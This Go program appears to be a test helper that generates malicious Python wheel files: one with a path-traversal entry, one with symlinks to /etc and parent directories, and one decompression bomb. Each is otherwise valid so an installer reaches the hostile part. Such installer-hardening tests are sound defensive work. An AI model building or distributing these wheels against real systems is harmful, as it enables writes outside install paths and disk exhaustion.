// Command evilwheel writes malicious wheels, as a hostile publisher of a
// dependency would, for the attack script malicious_wheel.txtar:
//
//	attack-evilwheel traversal DIR   evil-1.0: an entry ../../escaped-by-wheel
//	attack-evilwheel symlink DIR     evil-1.0: entries that are symlinks (zip mode S_IFLNK) to /etc and ../../..
//	attack-evilwheel bomb DIR MIB    evil-1.0: one file of MIB MiB of zeros (deflated to ~1/1000)
//
// Each wheel is otherwise valid (METADATA, WHEEL, RECORD), so pip gets to
// the hostile part.
package main

import (
	"archive/zip"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"
)

type entry struct {
	name    string
	body    []byte
	size    int64 // zeros, when body is nil
	symlink bool
}

func main() {
	if len(os.Args) < 3 {
		fmt.Fprintln(os.Stderr, "usage: attack-evilwheel traversal|symlink|bomb DIR [MIB]")
		os.Exit(2)
	}
	kind, dir := os.Args[1], os.Args[2]
	ents := []entry{{name: "evil/__init__.py", body: []byte("X = 1\n")}}
	switch kind {
	case "traversal":
		ents = append(ents, entry{name: "../../escaped-by-wheel", body: []byte("escaped\n")})
	case "symlink":
		ents = append(ents,
			entry{name: "evil/etc", body: []byte("/etc"), symlink: true},
			entry{name: "evil/up", body: []byte("../../.."), symlink: true})
	case "bomb":
		mib, err := strconv.Atoi(os.Args[3])
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(2)
		}
		ents = append(ents, entry{name: "evil/zeros.bin", size: int64(mib) << 20})
	default:
		fmt.Fprintln(os.Stderr, "unknown kind", kind)
		os.Exit(2)
	}
	if err := write(filepath.Join(dir, "evil-1.0-py3-none-any.whl"), ents); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

func write(path string, ents []entry) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	defer f.Close()
	zw := zip.NewWriter(f)
	ents = append(ents,
		entry{name: "evil-1.0.dist-info/METADATA", body: []byte("Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")},
		entry{name: "evil-1.0.dist-info/WHEEL", body: []byte("Wheel-Version: 1.0\nGenerator: evilwheel\nRoot-Is-Purelib: true\nTag: py3-none-any\n")})
	var record strings.Builder
	for _, e := range ents {
		h := &zip.FileHeader{Name: e.name, Method: zip.Deflate}
		mode := fs.FileMode(0o644)
		if e.symlink {
			mode = fs.ModeSymlink | 0o777
		}
		h.SetMode(mode)
		w, err := zw.CreateHeader(h)
		if err != nil {
			return err
		}
		sum := sha256.New()
		out := io.MultiWriter(w, sum)
		n := int64(len(e.body))
		if e.body != nil {
			if _, err := out.Write(e.body); err != nil {
				return err
			}
		} else {
			zeros := make([]byte, 1<<20)
			for left := e.size; left > 0; left -= int64(len(zeros)) {
				if _, err := out.Write(zeros[:min(left, int64(len(zeros)))]); err != nil {
					return err
				}
			}
			n = e.size
		}
		fmt.Fprintf(&record, "%s,sha256=%s,%d\n", e.name, base64.RawURLEncoding.EncodeToString(sum.Sum(nil)), n)
	}
	record.WriteString("evil-1.0.dist-info/RECORD,,\n")
	w, err := zw.Create("evil-1.0.dist-info/RECORD")
	if err != nil {
		return err
	}
	if _, err := io.WriteString(w, record.String()); err != nil {
		return err
	}
	return zw.Close()
}
